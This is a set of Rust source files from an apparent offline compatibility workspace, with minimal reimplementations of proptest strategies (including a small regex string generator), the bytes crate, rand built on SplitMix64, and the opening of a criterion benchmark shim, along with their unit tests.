                nodes.push(apply_quantifier(Node::Class(class), chars)?);
            }
            Some(')') => return Err(Error("unbalanced ')'".into())),
            Some('\\') => {
                chars.next();
                let escaped = parse_escape(chars)?;
                nodes.push(apply_quantifier(Node::Literal(escaped), chars)?);
            }
            Some('.') => {
                chars.next();
                let printable: Vec<char> = (b' '..=b'~').map(|b| b as char).collect();
                nodes.push(apply_quantifier(Node::Class(printable), chars)?);
            }
            Some(c) => {
                chars.next();
                nodes.push(apply_quantifier(Node::Literal(c), chars)?);
            }
        }
    }
}

fn parse_escape(chars: &mut Chars) -> Result<char, Error> {
    match chars.next() {
        Some('n') => Ok('\n'),
        Some('t') => Ok('\t'),
        Some('r') => Ok('\r'),
        Some('0') => Ok('\0'),
        Some(c @ ('\\' | '.' | '-' | '[' | ']' | '(' | ')' | '{' | '}' | '+' | '*' | '?'
        | '/' | '|' | '^' | '$' | ' ')) => Ok(c),
        Some(c) => Err(Error(format!("escape '\\{c}' not supported"))),
        None => Err(Error("dangling backslash".into())),
    }
}

fn parse_class(chars: &mut Chars) -> Result<Vec<char>, Error> {
    if chars.peek() == Some(&'^') {
        return Err(Error("negated classes not supported".into()));
    }
    let mut members = Vec::new();
    loop {
        let c = match chars.next() {
            None => return Err(Error("unterminated character class".into())),
            Some(']') => {
                if members.is_empty() {
                    return Err(Error("empty character class".into()));
                }
                return Ok(members);
            }
            Some('\\') => parse_escape(chars)?,
            Some(c) => c,
        };
        // Range if a '-' follows and is itself followed by a
        // non-']' character; otherwise '-' is a literal member.
        if chars.peek() == Some(&'-') {
            let mut lookahead = chars.clone();
            lookahead.next();
            if lookahead.peek().is_some() && lookahead.peek() != Some(&']') {
                chars.next();
                let end = match chars.next() {
                    Some('\\') => parse_escape(chars)?,
                    Some(e) => e,
                    None => return Err(Error("unterminated range".into())),
                };
                if end < c {
                    return Err(Error(format!("inverted range {c}-{end}")));
                }
                let (lo, hi) = (c as u32, end as u32);
                members.extend((lo..=hi).filter_map(char::from_u32));
                continue;
            }
        }
        members.push(c);
    }
}

fn apply_quantifier(node: Node, chars: &mut Chars) -> Result<Node, Error> {
    match chars.peek() {
        Some('{') => {
            chars.next();
            let mut spec = String::new();
            loop {
                match chars.next() {
                    Some('}') => break,
                    Some(c) => spec.push(c),
                    None => return Err(Error("unterminated quantifier".into())),
                }
            }
            let (min, max) = match spec.split_once(',') {
                None => {
                    let n: u32 =
                        spec.trim().parse().map_err(|_| Error(format!("bad quantifier {{{spec}}}")))?;
                    (n, n)
                }
                Some((lo, hi)) => {
                    let min: u32 =
                        lo.trim().parse().map_err(|_| Error(format!("bad quantifier {{{spec}}}")))?;
                    let max: u32 = if hi.trim().is_empty() {
                        min + UNBOUNDED_MAX
                    } else {
                        hi.trim().parse().map_err(|_| Error(format!("bad quantifier {{{spec}}}")))?
                    };
                    (min, max)
                }
            };
            if max < min {
                return Err(Error(format!("bad quantifier {{{spec}}}")));
            }
            Ok(Node::Repeat(Box::new(node), min, max))
        }
        Some('?') => {
            chars.next();
            Ok(Node::Repeat(Box::new(node), 0, 1))
        }
        Some('*') => {
            chars.next();
            Ok(Node::Repeat(Box::new(node), 0, UNBOUNDED_MAX))
        }
        Some('+') => {
            chars.next();
            Ok(Node::Repeat(Box::new(node), 1, UNBOUNDED_MAX))
        }
        _ => Ok(node),
    }
}

fn generate_node(node: &Node, rng: &mut TestRng, out: &mut String) {
    match node {
        Node::Literal(c) => out.push(*c),
        Node::Class(members) => {
            out.push(members[rng.below(members.len() as u64) as usize]);
        }
        Node::Group(nodes) => {
            for inner in nodes {
                generate_node(inner, rng, out);
            }
        }
        Node::Repeat(inner, min, max) => {
            let count = *min + rng.below((*max - *min + 1) as u64) as u32;
            for _ in 0..count {
                generate_node(inner, rng, out);
            }
        }
    }
}

impl Strategy for RegexGeneratorStrategy {
    type Value = String;
    fn gen_value(&self, rng: &mut TestRng) -> String {
        let mut out = String::new();
        for node in &self.nodes {
            generate_node(node, rng, &mut out);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rng() -> TestRng {
        TestRng::for_case("string::tests", 7)
    }

    fn assert_all_match(pattern: &str, check: impl Fn(&str) -> bool) {
        let strat = string_regex(pattern).expect("pattern parses");
        let mut r = rng();
        for _ in 0..500 {
            let s = strat.gen_value(&mut r);
            assert!(check(&s), "pattern {pattern:?} produced invalid {s:?}");
        }
    }

    #[test]
    fn printable_with_escapes() {
        assert_all_match("[ -~\\n\\t]{0,24}", |s| {
            s.chars().count() <= 24
                && s.chars().all(|c| (' '..='~').contains(&c) || c == '\n' || c == '\t')
        });
    }

    #[test]
    fn identifier_shape() {
        assert_all_match("[a-zA-Z_][a-zA-Z0-9_ :.#-]{0,12}", |s| {
            let mut chars = s.chars();
            let head = chars.next().expect("at least one char");
            (head.is_ascii_alphabetic() || head == '_')
                && chars.clone().count() <= 12
                && chars.all(|c| c.is_ascii_alphanumeric() || "_ :.#-".contains(c))
        });
    }

    #[test]
    fn grouped_path_segments() {
        assert_all_match("[a-z][a-z0-9_.]{0,8}(/[a-z][a-z0-9_.]{0,8}){0,3}", |s| {
            s.split('/').count() <= 4
                && s.split('/').all(|seg| {
                    let mut chars = seg.chars();
                    matches!(chars.next(), Some(c) if c.is_ascii_lowercase())
                        && chars.all(|c| {
                            c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '.'
                        })
                })
        });
    }

    #[test]
    fn exact_repetition_and_optionals() {
        assert_all_match("ab{3}c?", |s| s == "abbb" || s == "abbbc");
    }

    #[test]
    fn rejects_unsupported_syntax() {
        assert!(string_regex("a|b").is_err());
        assert!(string_regex("[^a]").is_err());
        assert!(string_regex("(unclosed").is_err());
    }
}
