//! The `Strategy` trait and combinators.

use crate::test_runner::TestRng;
use std::sync::Arc;

/// A recipe for generating values of `Self::Value`.
///
/// Unlike real proptest there is no value tree and no shrinking: a
/// strategy is just a deterministic function of the RNG state.
pub trait Strategy {
    type Value;

    fn gen_value(&self, rng: &mut TestRng) -> Self::Value;

    fn prop_map<O, F>(self, map: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { source: self, map }
    }

    fn prop_filter<F>(self, _whence: &'static str, filter: F) -> Filter<Self, F>
    where
        Self: Sized,
        F: Fn(&Self::Value) -> bool,
    {
        Filter { source: self, filter }
    }

    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
        Self::Value: 'static,
    {
        let strategy = self;
        BoxedStrategy { generate: Arc::new(move |rng| strategy.gen_value(rng)) }
    }

    /// Bounded recursive strategy: unroll `depth` levels, mixing the
    /// leaf strategy back in at every level so sizes stay finite. The
    /// `desired_size` / `expected_branch_size` hints are accepted for
    /// API compatibility but unused.
    fn prop_recursive<R, F>(
        self,
        depth: u32,
        _desired_size: u32,
        _expected_branch_size: u32,
        recurse: F,
    ) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
        Self::Value: 'static,
        R: Strategy<Value = Self::Value> + 'static,
        F: Fn(BoxedStrategy<Self::Value>) -> R,
    {
        let leaf = self.boxed();
        let mut strategy = leaf.clone();
        for _ in 0..depth {
            let branch = recurse(strategy).boxed();
            strategy = Union::new(vec![leaf.clone(), branch]).boxed();
        }
        strategy
    }
}

/// Type-erased, cheaply cloneable strategy.
pub struct BoxedStrategy<T> {
    generate: Arc<dyn Fn(&mut TestRng) -> T>,
}

impl<T> Clone for BoxedStrategy<T> {
    fn clone(&self) -> Self {
        BoxedStrategy { generate: Arc::clone(&self.generate) }
    }
}

impl<T> Strategy for BoxedStrategy<T> {
    type Value = T;
    fn gen_value(&self, rng: &mut TestRng) -> T {
        (self.generate)(rng)
    }
}

/// Always produces a clone of the given value.
#[derive(Clone, Debug)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn gen_value(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// `prop_map` combinator.
#[derive(Clone)]
pub struct Map<S, F> {
    source: S,
    map: F,
}

impl<S, O, F> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> O,
{
    type Value = O;
    fn gen_value(&self, rng: &mut TestRng) -> O {
        (self.map)(self.source.gen_value(rng))
    }
}

/// `prop_filter` combinator: rejection-sample, giving up after a
/// bounded number of attempts (the last candidate is returned then —
/// without shrinking there is no meaningful "reject the whole case"
/// channel, and the filters in this workspace are light).
#[derive(Clone)]
pub struct Filter<S, F> {
    source: S,
    filter: F,
}

impl<S, F> Strategy for Filter<S, F>
where
    S: Strategy,
    F: Fn(&S::Value) -> bool,
{
    type Value = S::Value;
    fn gen_value(&self, rng: &mut TestRng) -> S::Value {
        for _ in 0..64 {
            let candidate = self.source.gen_value(rng);
            if (self.filter)(&candidate) {
                return candidate;
            }
        }
        self.source.gen_value(rng)
    }
}

/// Uniform choice between boxed strategies (`prop_oneof!`).
pub struct Union<T> {
    options: Vec<BoxedStrategy<T>>,
}

impl<T> Union<T> {
    pub fn new(options: Vec<BoxedStrategy<T>>) -> Self {
        assert!(!options.is_empty(), "prop_oneof! needs at least one option");
        Union { options }
    }
}

impl<T> Clone for Union<T> {
    fn clone(&self) -> Self {
        Union { options: self.options.clone() }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;
    fn gen_value(&self, rng: &mut TestRng) -> T {
        let index = rng.below(self.options.len() as u64) as usize;
        self.options[index].gen_value(rng)
    }
}

// ------------------------------------------------------------- ranges

macro_rules! impl_int_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for std::ops::Range<$t> {
            type Value = $t;
            fn gen_value(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                rng.int_between(self.start as i128, self.end as i128 - 1) as $t
            }
        }

        impl Strategy for std::ops::RangeInclusive<$t> {
            type Value = $t;
            fn gen_value(&self, rng: &mut TestRng) -> $t {
                assert!(self.start() <= self.end(), "empty range strategy");
                rng.int_between(*self.start() as i128, *self.end() as i128) as $t
            }
        }
    )*};
}

impl_int_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_float_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for std::ops::Range<$t> {
            type Value = $t;
            fn gen_value(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                self.start + rng.unit_f64() as $t * (self.end - self.start)
            }
        }
    )*};
}

impl_float_range_strategy!(f32, f64);

// ------------------------------------------------------------- tuples

macro_rules! impl_tuple_strategy {
    ($($name:ident : $idx:tt),+) => {
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            fn gen_value(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.gen_value(rng),)+)
            }
        }
    };
}

impl_tuple_strategy!(A: 0);
impl_tuple_strategy!(A: 0, B: 1);
impl_tuple_strategy!(A: 0, B: 1, C: 2);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4, F: 5);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4, F: 5, G: 6);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4, F: 5, G: 6, H: 7);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4, F: 5, G: 6, H: 7, I: 8);
impl_tuple_strategy!(A: 0, B: 1, C: 2, D: 3, E: 4, F: 5, G: 6, H: 7, I: 8, J: 9);

// --------------------------------------------------- regex string refs

/// String literals act as regex-shaped string strategies, mirroring
/// real proptest's `impl Strategy for &str`.
impl Strategy for &'static str {
    type Value = String;
    fn gen_value(&self, rng: &mut TestRng) -> String {
        crate::string::string_regex(self)
            .unwrap_or_else(|e| panic!("invalid regex strategy {self:?}: {e}"))
            .gen_value(rng)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rng() -> TestRng {
        TestRng::for_case("strategy::tests", 1)
    }

    #[test]
    fn just_and_map_compose() {
        let s = Just(21u64).prop_map(|x| x * 2);
        assert_eq!(s.gen_value(&mut rng()), 42);
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut r = rng();
        for _ in 0..2_000 {
            let v = (-50i64..50).gen_value(&mut r);
            assert!((-50..50).contains(&v));
            let f = (0.5f64..2.0).gen_value(&mut r);
            assert!((0.5..2.0).contains(&f));
            let u = (3u8..=5).gen_value(&mut r);
            assert!((3..=5).contains(&u));
        }
    }

    #[test]
    fn union_picks_every_option() {
        let union = Union::new(vec![Just(1u8).boxed(), Just(2u8).boxed(), Just(3u8).boxed()]);
        let mut seen = [false; 4];
        let mut r = rng();
        for _ in 0..200 {
            seen[union.gen_value(&mut r) as usize] = true;
        }
        assert!(seen[1] && seen[2] && seen[3]);
    }

    #[test]
    fn recursive_strategies_terminate() {
        #[derive(Debug)]
        enum Tree {
            #[allow(dead_code)]
            Leaf(u8),
            Node(Vec<Tree>),
        }
        fn depth(t: &Tree) -> usize {
            match t {
                Tree::Leaf(_) => 1,
                Tree::Node(children) => 1 + children.iter().map(depth).max().unwrap_or(0),
            }
        }
        let strat = (0u8..255)
            .prop_map(Tree::Leaf)
            .prop_recursive(3, 16, 4, |inner| {
                crate::collection::vec(inner, 0..4).prop_map(Tree::Node)
            });
        let mut r = rng();
        for _ in 0..100 {
            // Each level is either a leaf or one nesting step; the
            // unrolling bounds total depth at 3 branch levels + leaf.
            assert!(depth(&strat.gen_value(&mut r)) <= 4);
        }
    }
}
