//! `any::<T>()` for primitive types.

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use std::marker::PhantomData;

/// Types with a canonical "anything goes" strategy.
pub trait Arbitrary: Sized {
    fn arbitrary_value(rng: &mut TestRng) -> Self;
}

pub struct Any<T> {
    _marker: PhantomData<T>,
}

impl<T> Clone for Any<T> {
    fn clone(&self) -> Self {
        Any { _marker: PhantomData }
    }
}

pub fn any<T: Arbitrary>() -> Any<T> {
    Any { _marker: PhantomData }
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn gen_value(&self, rng: &mut TestRng) -> T {
        T::arbitrary_value(rng)
    }
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary_value(rng: &mut TestRng) -> $t {
                rng.next_u64() as $t
            }
        }
    )*};
}

impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary_value(rng: &mut TestRng) -> bool {
        rng.next_u64() & 1 == 1
    }
}

impl Arbitrary for char {
    fn arbitrary_value(rng: &mut TestRng) -> char {
        // Printable ASCII keeps generated text debuggable.
        (b' ' + rng.below(95) as u8) as char
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn any_generates_varied_values() {
        let mut rng = TestRng::for_case("arbitrary::tests", 0);
        let strat = any::<u8>();
        let mut seen = std::collections::HashSet::new();
        for _ in 0..200 {
            seen.insert(strat.gen_value(&mut rng));
        }
        assert!(seen.len() > 50, "u8 values should be spread out");
    }
}
