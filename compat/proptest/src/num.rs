//! Numeric strategies (`prop::num::f64::NORMAL`).

pub mod f64 {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    /// Generates normal floats: finite, non-NaN, non-subnormal,
    /// non-zero — both signs, full exponent range.
    #[derive(Clone, Copy, Debug)]
    pub struct NormalStrategy;

    pub const NORMAL: NormalStrategy = NormalStrategy;

    impl Strategy for NormalStrategy {
        type Value = core::primitive::f64;
        fn gen_value(&self, rng: &mut TestRng) -> core::primitive::f64 {
            loop {
                let candidate = core::primitive::f64::from_bits(rng.next_u64());
                if candidate.is_normal() {
                    return candidate;
                }
            }
        }
    }

    #[cfg(test)]
    mod tests {
        use super::*;

        #[test]
        fn normal_floats_are_normal() {
            let mut rng = TestRng::for_case("num::f64::tests", 0);
            for _ in 0..10_000 {
                let f = NORMAL.gen_value(&mut rng);
                assert!(f.is_normal(), "{f} should be normal");
            }
        }
    }
}
