//! Minimal, API-compatible subset of the `bytes` crate: a cheaply
//! cloneable, immutable byte buffer backed by `Arc<[u8]>`.

use std::borrow::Borrow;
use std::fmt;
use std::hash::{Hash, Hasher};
use std::ops::Deref;
use std::sync::Arc;

/// Cheaply cloneable contiguous slice of memory.
#[derive(Clone)]
pub struct Bytes {
    data: Repr,
}

#[derive(Clone)]
enum Repr {
    Static(&'static [u8]),
    Shared(Arc<[u8]>),
}

impl Bytes {
    pub const fn new() -> Self {
        Bytes { data: Repr::Static(&[]) }
    }

    pub const fn from_static(bytes: &'static [u8]) -> Self {
        Bytes { data: Repr::Static(bytes) }
    }

    pub fn copy_from_slice(data: &[u8]) -> Self {
        Bytes { data: Repr::Shared(Arc::from(data)) }
    }

    pub fn as_slice(&self) -> &[u8] {
        match &self.data {
            Repr::Static(s) => s,
            Repr::Shared(s) => s,
        }
    }

    pub fn len(&self) -> usize {
        self.as_slice().len()
    }

    pub fn is_empty(&self) -> bool {
        self.as_slice().is_empty()
    }

    pub fn to_vec(&self) -> Vec<u8> {
        self.as_slice().to_vec()
    }

    pub fn slice(&self, range: impl std::ops::RangeBounds<usize>) -> Bytes {
        use std::ops::Bound;
        let start = match range.start_bound() {
            Bound::Included(&n) => n,
            Bound::Excluded(&n) => n + 1,
            Bound::Unbounded => 0,
        };
        let end = match range.end_bound() {
            Bound::Included(&n) => n + 1,
            Bound::Excluded(&n) => n,
            Bound::Unbounded => self.len(),
        };
        Bytes::copy_from_slice(&self.as_slice()[start..end])
    }
}

impl Default for Bytes {
    fn default() -> Self {
        Bytes::new()
    }
}

impl Deref for Bytes {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl AsRef<[u8]> for Bytes {
    fn as_ref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl Borrow<[u8]> for Bytes {
    fn borrow(&self) -> &[u8] {
        self.as_slice()
    }
}

impl From<Vec<u8>> for Bytes {
    fn from(v: Vec<u8>) -> Self {
        Bytes { data: Repr::Shared(Arc::from(v.into_boxed_slice())) }
    }
}

impl From<Box<[u8]>> for Bytes {
    fn from(v: Box<[u8]>) -> Self {
        Bytes { data: Repr::Shared(Arc::from(v)) }
    }
}

impl From<String> for Bytes {
    fn from(s: String) -> Self {
        Bytes::from(s.into_bytes())
    }
}

impl From<&'static [u8]> for Bytes {
    fn from(s: &'static [u8]) -> Self {
        Bytes::from_static(s)
    }
}

impl From<&'static str> for Bytes {
    fn from(s: &'static str) -> Self {
        Bytes::from_static(s.as_bytes())
    }
}

impl From<Bytes> for Vec<u8> {
    fn from(b: Bytes) -> Self {
        b.to_vec()
    }
}

impl FromIterator<u8> for Bytes {
    fn from_iter<T: IntoIterator<Item = u8>>(iter: T) -> Self {
        Bytes::from(iter.into_iter().collect::<Vec<u8>>())
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Self) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl Eq for Bytes {}

impl PartialOrd for Bytes {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Bytes {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.as_slice().cmp(other.as_slice())
    }
}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        self.as_slice() == other
    }
}

impl PartialEq<Bytes> for [u8] {
    fn eq(&self, other: &Bytes) -> bool {
        self == other.as_slice()
    }
}

impl PartialEq<Vec<u8>> for Bytes {
    fn eq(&self, other: &Vec<u8>) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl PartialEq<Bytes> for Vec<u8> {
    fn eq(&self, other: &Bytes) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl PartialEq<&[u8]> for Bytes {
    fn eq(&self, other: &&[u8]) -> bool {
        self.as_slice() == *other
    }
}

impl Hash for Bytes {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.as_slice().hash(state);
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "b\"")?;
        for &b in self.as_slice() {
            if (b' '..=b'~').contains(&b) && b != b'"' && b != b'\\' {
                write!(f, "{}", b as char)?;
            } else {
                write!(f, "\\x{b:02x}")?;
            }
        }
        write!(f, "\"")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_and_compares() {
        let a = Bytes::from(vec![1u8, 2, 3]);
        let b = Bytes::from_static(&[1, 2, 3]);
        assert_eq!(a, b);
        assert_eq!(a.len(), 3);
        assert_eq!(&a[1..], &[2, 3]);
        assert_eq!(a.to_vec(), vec![1, 2, 3]);
    }

    #[test]
    fn clone_is_cheap_and_equal() {
        let a = Bytes::from("hello".to_string());
        let b = a.clone();
        assert_eq!(a, b);
        assert_eq!(b.as_ref(), b"hello");
    }

    #[test]
    fn slice_extracts_range() {
        let a = Bytes::from_static(b"abcdef");
        assert_eq!(a.slice(1..4).as_ref(), b"bcd");
        assert_eq!(a.slice(..).as_ref(), b"abcdef");
    }
}
