//! Distribution traits mirroring `rand::distributions`.

use crate::{RngCore, SampleUniform};

pub trait Distribution<T> {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> T;
}

/// The "natural" distribution for a type (`rng.gen()`).
pub struct Standard;

impl Distribution<u64> for Standard {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> u64 {
        rng.next_u64()
    }
}

impl Distribution<u32> for Standard {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> u32 {
        rng.next_u32()
    }
}

impl Distribution<u8> for Standard {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> u8 {
        (rng.next_u64() >> 56) as u8
    }
}

impl Distribution<bool> for Standard {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> bool {
        rng.next_u64() & 1 == 1
    }
}

impl Distribution<f64> for Standard {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> f64 {
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

/// Uniform distribution over a half-open range.
#[derive(Clone, Copy, Debug)]
pub struct Uniform<T> {
    lo: T,
    hi: T,
}

impl<T: SampleUniform> Uniform<T> {
    pub fn new(lo: T, hi: T) -> Self {
        assert!(lo < hi, "Uniform::new requires lo < hi");
        Uniform { lo, hi }
    }

    pub fn new_inclusive(lo: T, hi: T) -> Self {
        assert!(lo <= hi, "Uniform::new_inclusive requires lo <= hi");
        Uniform { lo, hi }
    }
}

impl<T: SampleUniform> Distribution<T> for Uniform<T> {
    fn sample<R: RngCore + ?Sized>(&self, rng: &mut R) -> T {
        T::sample_between(rng, self.lo, self.hi, false)
    }
}
