//! Minimal, API-compatible subset of `rand` 0.8 built on SplitMix64.
//!
//! The streams differ from the real crate's ChaCha-based `StdRng`, but
//! they are deterministic per seed, uniform, and fast — which is all
//! the simulation and tests rely on.

pub mod distributions;
pub mod rngs;

pub use rngs::StdRng;

/// Core entropy source: 64 random bits at a time.
pub trait RngCore {
    fn next_u64(&mut self) -> u64;

    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    fn fill_bytes(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let bytes = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
    }
}

/// Seedable construction, mirroring `rand::SeedableRng`.
pub trait SeedableRng: Sized {
    type Seed: AsMut<[u8]> + Default;

    fn from_seed(seed: Self::Seed) -> Self;

    fn seed_from_u64(state: u64) -> Self;

    fn from_entropy() -> Self {
        use std::time::{SystemTime, UNIX_EPOCH};
        let nanos = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| d.as_nanos() as u64)
            .unwrap_or(0x9E37_79B9_7F4A_7C15);
        let addr = {
            let probe = 0u8;
            &probe as *const u8 as u64
        };
        Self::seed_from_u64(nanos ^ addr.rotate_left(32))
    }
}

/// Value-producing convenience layer, mirroring `rand::Rng`.
pub trait Rng: RngCore {
    fn gen<T>(&mut self) -> T
    where
        distributions::Standard: distributions::Distribution<T>,
        Self: Sized,
    {
        distributions::Distribution::sample(&distributions::Standard, self)
    }

    fn gen_range<T, R>(&mut self, range: R) -> T
    where
        T: SampleUniform,
        R: SampleRange<T>,
        Self: Sized,
    {
        range.sample_single(self)
    }

    fn gen_bool(&mut self, p: f64) -> bool
    where
        Self: Sized,
    {
        uniform_f64(self.next_u64()) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// Map 64 random bits to a uniform f64 in `[0, 1)`.
fn uniform_f64(bits: u64) -> f64 {
    (bits >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

/// Types that `gen_range` / `Uniform` can sample.
pub trait SampleUniform: PartialOrd + Copy {
    fn sample_between<R: RngCore + ?Sized>(rng: &mut R, lo: Self, hi: Self, inclusive: bool) -> Self;
}

macro_rules! impl_sample_uniform_int {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_between<R: RngCore + ?Sized>(
                rng: &mut R,
                lo: Self,
                hi: Self,
                inclusive: bool,
            ) -> Self {
                let (lo_w, hi_w) = (lo as i128, hi as i128);
                let span = if inclusive { hi_w - lo_w + 1 } else { hi_w - lo_w };
                assert!(span > 0, "gen_range called with empty range");
                // Modulo bias is negligible for the spans used here
                // (span << 2^64) and irrelevant for simulation fidelity.
                let offset = (rng.next_u64() as u128 % span as u128) as i128;
                (lo_w + offset) as $t
            }
        }
    )*};
}

impl_sample_uniform_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_sample_uniform_float {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_between<R: RngCore + ?Sized>(
                rng: &mut R,
                lo: Self,
                hi: Self,
                _inclusive: bool,
            ) -> Self {
                assert!(lo <= hi, "gen_range called with empty range");
                let u = uniform_f64(rng.next_u64()) as $t;
                lo + u * (hi - lo)
            }
        }
    )*};
}

impl_sample_uniform_float!(f32, f64);

/// Ranges accepted by `gen_range`.
pub trait SampleRange<T> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

impl<T: SampleUniform> SampleRange<T> for std::ops::Range<T> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_between(rng, self.start, self.end, false)
    }
}

impl<T: SampleUniform> SampleRange<T> for std::ops::RangeInclusive<T> {
    fn sample_single<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_between(rng, *self.start(), *self.end(), true)
    }
}

pub mod prelude {
    pub use crate::distributions::Distribution;
    pub use crate::rngs::StdRng;
    pub use crate::{Rng, RngCore, SeedableRng};
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn gen_range_respects_bounds() {
        let mut rng = StdRng::seed_from_u64(7);
        for _ in 0..10_000 {
            let x: u64 = rng.gen_range(10..20);
            assert!((10..20).contains(&x));
            let y = rng.gen_range(0.25..0.75);
            assert!((0.25..0.75).contains(&y));
            let z: usize = rng.gen_range(3..=3);
            assert_eq!(z, 3);
        }
    }

    #[test]
    fn float_range_covers_span() {
        let mut rng = StdRng::seed_from_u64(3);
        let mut lo_seen = false;
        let mut hi_seen = false;
        for _ in 0..10_000 {
            let x = rng.gen_range(0.0..1.0);
            if x < 0.1 {
                lo_seen = true;
            }
            if x > 0.9 {
                hi_seen = true;
            }
        }
        assert!(lo_seen && hi_seen, "uniform floats should cover the span");
    }

    #[test]
    fn uniform_distribution_samples_indices() {
        use distributions::{Distribution, Uniform};
        let dist = Uniform::new(0usize, 64);
        let mut rng = StdRng::seed_from_u64(9);
        let mut seen = [false; 64];
        for _ in 0..5_000 {
            seen[dist.sample(&mut rng)] = true;
        }
        assert!(seen.iter().all(|&s| s), "all indices reachable");
    }
}
