//! RNG implementations. `StdRng` is SplitMix64 — not the real crate's
//! ChaCha12, but deterministic, uniform, and plenty for simulation.

use crate::{RngCore, SeedableRng};

/// Deterministic 64-bit generator (SplitMix64, Steele et al. 2014).
#[derive(Clone, Debug)]
pub struct StdRng {
    state: u64,
}

impl RngCore for StdRng {
    fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
}

impl SeedableRng for StdRng {
    type Seed = [u8; 32];

    fn from_seed(seed: Self::Seed) -> Self {
        let mut first = [0u8; 8];
        first.copy_from_slice(&seed[..8]);
        Self::seed_from_u64(u64::from_le_bytes(first))
    }

    fn seed_from_u64(state: u64) -> Self {
        // Pre-mix so nearby seeds (0, 1, 2…) do not produce
        // correlated early outputs.
        let mut rng = StdRng { state: state ^ 0x5851_F42D_4C95_7F2D };
        rng.next_u64();
        rng
    }
}
