//! Minimal, API-compatible subset of `criterion`: enough surface for
//! the workspace's `harness = false` bench targets to build and run
//! offline. Statistical machinery (outlier rejection, regression
//! detection, plots) is intentionally absent — each benchmark is timed
//! with a short calibrated loop and reported as mean ns/iter.

use std::fmt;
use std::time::{Duration, Instant};

pub use std::hint::black_box;

/// How sample counts translate to work: per sample we run a batch of
